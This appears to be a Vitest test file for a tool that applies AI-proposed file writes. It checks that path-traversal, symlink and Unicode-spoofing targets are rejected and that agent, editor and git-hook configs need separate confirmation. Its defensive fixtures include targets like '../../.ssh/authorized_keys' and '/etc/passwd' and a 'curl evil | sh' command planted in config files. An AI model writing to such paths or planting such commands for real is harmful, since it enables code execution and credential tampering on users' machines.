import fs from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parseAnswer } from "../../../src/engine/verify/answer/parseAnswer.js";
import { applyApproved } from "../../../src/engine/verify/apply/applyApproved.js";
import { planApply } from "../../../src/engine/verify/apply/planApply.js";
import { EXECUTES_GLOBS, globMatcher, PROTECTED_GLOBS } from "../../../src/engine/verify/paths/pathRules.js";
import { tempDir, writeTree } from "../../support/verify/fixtureProjects.js";

const rules = { protectedMatcher: globMatcher(PROTECTED_GLOBS), executesMatcher: globMatcher(EXECUTES_GLOBS) };
const NFC = "caf\u00e9.py";
const NFD = "cafe\u0301.py";

/** Every file under `dir` (following nothing) with its bytes, for before/after comparison. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string, rel: string): void => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const r = rel ? `${rel}/${e.name}` : e.name;
      if (e.isSymbolicLink()) out[r] = `-> ${fs.readlinkSync(path.join(d, e.name))}`;
      else if (e.isDirectory()) walk(path.join(d, e.name), r);
      else out[r] = fs.readFileSync(path.join(d, e.name)).toString("base64");
    }
  };
  walk(dir, "");
  return out;
}

const CORPUS: Array<[string, string]> = [
  ["../../.ssh/authorized_keys", "parent-directory segment (..)"],
  ["..\\..\\x", "parent-directory segment (..)"],
  ["src/../../escape.py", "parent-directory segment (..)"],
  ["/etc/passwd", "absolute path"],
  ["C:\\x", "drive-letter path (C:)"],
  ["\\\\srv\\x", "UNC/network path (\\\\server\\share)"],
  ["//srv/share/x", "UNC/network path (\\\\server\\share)"],
  ["~/.bashrc", "home-relative path (~)"],
  ["%2e%2e/x", "percent-encoded dot, slash or NUL in the path"],
  ["src/%2Fetc.py", "percent-encoded dot, slash or NUL in the path"],
  ["outlink/evil.py", "resolves outside the project"],
  ["filelink.py", "the target is a symbolic link"],
  [NFD, "name is not in Unicode NFC form (an NFD twin of another name)"],
  [`twins/${NFC}`, "has a Unicode twin"],
  ["src/\u202egnp.ts", "bidi-override or invisible characters in the path"],
  ["src/zero\u200bwidth.ts", "bidi-override or invisible characters in the path"],
  ["CON.ts", '"CON.ts" is a reserved device name on Windows'],
  ["lib/aux.py", '"aux.py" is a reserved device name on Windows'],
  ["src/bell\u0007.py", "control characters in the path"],
  ["src/what?.ts", "contains a character Windows forbids"],
  ["src/trailing.", "ends with a dot or space"],
  ["lib.d", "the target exists and is not a regular file"],
];

describe("path corpus: every unsafe target is rejected with a reason and nothing is written", () => {
  let root: string;
  let project: string;
  let outside: string;
  beforeEach(() => {
    root = tempDir("cc-paths-");
    project = path.join(root, "project");
    outside = path.join(root, "outside");
    writeTree(project, { "lib.d/keep.txt": "", "src/main.py": "print('hi')\n", [`twins/${NFD}`]: "nfd twin\n" });
    writeTree(outside, { "secret.txt": "outside\n", "target.py": "outside target\n" });
    fs.symlinkSync(outside, path.join(project, "outlink"));
    fs.symlinkSync(path.join(outside, "target.py"), path.join(project, "filelink.py"));
  });
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  it("rejects the whole corpus from one AI answer", async () => {
    const answer = CORPUS.map(([p], i) => `File ${i}:\n\n\`\`\`py ${p}\nPWNED = ${i}\n\`\`\`\n`).join("\n");
    const parsed = parseAnswer(answer);
    expect(parsed.files.map((f) => f.path)).toEqual(CORPUS.map(([p]) => p));
    const before = { project: snapshot(project), outside: snapshot(outside) };
    const plan = await planApply({ project, parsed, rules });
    for (const [i, [p, reason]] of CORPUS.entries()) {
      const f = plan.files[i]!;
      expect(f.status, p).toBe("rejected");
      expect(f.reasons.join(" | "), p).toContain(reason);
    }
    const out = applyApproved({ plan, approve: "all", confirmProtected: plan.files.map((f) => f.path), journalRoot: path.join(root, "journal"), rules });
    expect(out.journal).toBeNull();
    expect(out.written).toEqual([]);
    expect(out.skipped).toHaveLength(CORPUS.length);
    expect(snapshot(project)).toEqual(before.project);
    expect(snapshot(outside)).toEqual(before.outside);
  });

  it("writes protected paths only with a separate confirmation, and flags files that execute during tests", async () => {
    const parsed = parseAnswer("```sh .git/hooks/pre-commit\necho hi\n```\n```ini .env\nKEY=1\n```\n```python conftest.py\nimport os\n```\n");
    const plan = await planApply({ project, parsed, rules });
    expect(plan.files.map((f) => [f.path, f.status])).toEqual([
      [".git/hooks/pre-commit", "protected"],
      [".env", "protected"],
      ["conftest.py", "ok"],
    ]);
    expect(plan.files[2]!.flags).toContain("runs code when tests, builds or CI run");
    const journalRoot = path.join(root, "journal");
    const first = applyApproved({ plan, approve: "all", journalRoot, rules });
    expect(first.written).toEqual(["conftest.py"]);
    expect(first.skipped.map((s) => s.path)).toEqual([".git/hooks/pre-commit", ".env"]);
    expect(fs.existsSync(path.join(project, ".env"))).toBe(false);
    const plan2 = await planApply({ project, parsed: parseAnswer("```ini .env\nKEY=1\n```\n"), rules });
    const second = applyApproved({ plan: plan2, approve: "all", confirmProtected: [".env"], journalRoot, rules });
    expect(second.written).toEqual([".env"]);
    expect(fs.readFileSync(path.join(project, ".env"), "utf8")).toBe("KEY=1\n");
  });

  it.each([".mcp.json", ".cursor/mcp.json", ".cursor/rules/evil.mdc", ".claude/settings.json", ".codex/config.toml", ".vscode/tasks.json", ".vscode/launch.json", ".envrc", ".idea/workspace.xml", ".git/hooks/post-checkout", ".githooks/pre-push", ".husky/pre-commit", "lefthook.yml", ".pre-commit-config.yaml"])(
    "refuses to write %s (editor/agent/hook config that starts commands) without a separate confirmation",
    async (rel) => {
      // The proposal as the parser would hand it over (how a path is spelled in an answer is parseAnswer's business).
      const parsed = { files: [{ path: rel, kind: "write" as const, content: '{"command": "curl evil | sh"}\n', source: "info-string" as const, format: "fence-info" as const, block: 0 }], unmapped: [], notes: [] };
      const plan = await planApply({ project, parsed, rules });
      expect(plan.files.map((f) => [f.path, f.status])).toEqual([[rel, "protected"]]);
      const out = applyApproved({ plan, approve: "all", journalRoot: path.join(root, "journal"), rules });
      expect(out.written).toEqual([]);
      expect(out.skipped.map((s) => s.path)).toEqual([rel]);
      expect(fs.existsSync(path.join(project, rel))).toBe(false);
    },
  );

  it("re-checks at apply time: a symlink swapped in after review is refused", async () => {
    const plan = await planApply({ project, parsed: parseAnswer("```py src/new.py\nX = 1\n```\n"), rules });
    expect(plan.files[0]!.status).toBe("ok");
    fs.symlinkSync(path.join(outside, "secret.txt"), path.join(project, "src/new.py"));
    expect(() => applyApproved({ plan, approve: "all", journalRoot: path.join(root, "journal"), rules })).toThrow(/symbolic link/);
    expect(fs.readFileSync(path.join(outside, "secret.txt"), "utf8")).toBe("outside\n");
  });
});
